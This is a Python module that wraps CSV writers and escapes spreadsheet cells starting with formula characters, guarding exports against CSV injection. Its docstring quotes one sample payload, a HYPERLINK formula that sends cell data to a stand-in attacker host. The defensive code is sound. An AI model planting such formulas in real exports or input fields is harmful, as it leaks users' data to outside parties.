"""Tables Parley writes for spreadsheets (CSV and XLSX): one rule for every one of them.

A spreadsheet runs a cell that starts with = + - or @ as a formula (and one that starts
with a tab or carriage return, after trimming it), so a commenter's name such as
`=HYPERLINK("http://evil.example/?"&A1)` could send a moderator's data away. Such a cell
is written with a leading apostrophe, which spreadsheets read as "this is text" (OWASP's
advice on CSV injection). Every CSV is written through `writer` or `DictWriter`, every
XLSX row through `cell`.
"""

import csv
from collections.abc import Iterable, Mapping
from typing import Any, Protocol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def cell(value: Any) -> Any:
    """`value`, or text a spreadsheet would run as a formula kept as text."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class Writer:
    """A csv.writer whose rows are written through `cell`."""

    def __init__(self, out: Writable) -> None:
        self._writer = csv.writer(out)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([cell(value) for value in row])


def writer(out: Writable) -> Writer:
    """What csv.writer(out) is, with formulas kept as text."""
    return Writer(out)


class DictWriter(csv.DictWriter[str]):
    """csv.DictWriter whose rows are written through `cell`."""

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({key: cell(value) for key, value in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for rowdict in rowdicts:
            self.writerow(rowdict)
